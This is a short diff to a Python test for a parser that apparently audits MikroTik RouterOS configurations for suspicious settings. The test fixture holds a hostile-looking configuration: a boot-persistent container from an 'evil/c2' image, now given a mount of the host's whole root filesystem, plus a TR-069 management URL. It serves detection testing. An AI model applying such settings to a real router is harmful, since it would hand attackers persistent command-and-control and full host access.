@@ -200,7 +200,7 @@ def test_scripts_and_what_they_do() -> None:
 
 def test_containers_boot_and_dialout() -> None:
     found = v7(
-        "/container\nadd interface=veth1 mounts=m remote-image=evil/c2:latest start-on-boot=yes\n/interface veth\nadd address=172.17.0.2/24 gateway=172.17.0.1 name=veth1\n"
+        "/container mounts\nadd dst=/host name=m src=/\n/container\nadd interface=veth1 mounts=m remote-image=evil/c2:latest start-on-boot=yes\n/interface veth\nadd address=172.17.0.2/24 gateway=172.17.0.1 name=veth1\n"
         "/tr069-client\nset acs-url=http://192.0.2.1 enabled=yes\n/ip cloud\nset back-to-home-vpn=enabled ddns-enabled=yes\n/system routerboard settings\nset protected-routerboot=enabled\n"
     )
     (app,) = found.containers.apps
